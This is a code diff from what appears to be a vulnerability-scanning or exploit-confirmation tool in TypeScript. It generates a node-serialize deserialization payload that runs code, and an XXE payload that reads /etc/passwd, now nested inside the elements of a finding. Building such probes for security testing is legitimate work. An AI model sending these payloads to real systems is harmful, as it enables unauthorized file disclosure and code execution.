@@ -56,8 +56,17 @@ const deserializationPayload: PayloadMaker = ({ finding }) => {
     : { text: `{"probe":"_$$ND_FUNC$$_${code}()"}`, also: `{"probe":"_$$ND_FUNC$$_function(){throw Error(${FACTORS})}()"}`, effect: RAN_AS_CODE, expected: shows(PRODUCT) };
 };
 
-const entityPayload: PayloadMaker = () => ({
-  text: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>', contentType: 'application/xml',
+const ENTITY = '&e;';
+
+/** The entity within each of the elements, as a tree of them; where there is none, as it is. */
+function entityWithin(paths: readonly (readonly string[])[]): string {
+  const names = new Set(paths.map(([name = '']) => name));
+  if (paths.some((path) => path.length === 0)) return ENTITY;
+  return [...names].map((name) => `<${name}>${entityWithin(paths.filter(([first]) => first === name).map((path) => path.slice(1)))}</${name}>`).join('');
+}
+
+const entityPayload: PayloadMaker = ({ finding: { elements = [] } }) => ({
+  text: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>${elements.length > 0 ? entityWithin(elements) : ENTITY}</r>`, contentType: 'application/xml',
   effect: 'The content of `/etc/passwd` stands where the entity was: the parser read the file.', expected: shows('root:x:0:0'),
 });
 
